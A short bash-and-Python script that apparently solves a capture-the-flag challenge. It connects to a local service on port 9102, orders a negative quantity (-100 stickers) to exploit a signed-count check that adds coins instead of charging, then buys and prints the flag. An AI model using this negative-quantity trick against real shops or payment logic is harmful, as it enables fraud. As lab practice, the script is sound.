#!/bin/bash
# count is signed and only cost > balance is checked: buying -100 stickers adds 2500 coins.
set -e
python3 - <<'PY'
import re, socket
s = socket.create_connection(("127.0.0.1", 9102))
s.settimeout(10)
def until(tok):
    buf = b""
    while tok not in buf:
        d = s.recv(4096)
        if not d: break
        buf += d
    return buf
until(b"> "); s.sendall(b"1\n")
until(b"? "); s.sendall(b"-100\n")
until(b"> "); s.sendall(b"2\n")
out = until(b"> ")
s.sendall(b"3\n")
print(re.search(rb"flag\{[^}]+\}", out).group(0).decode())
PY
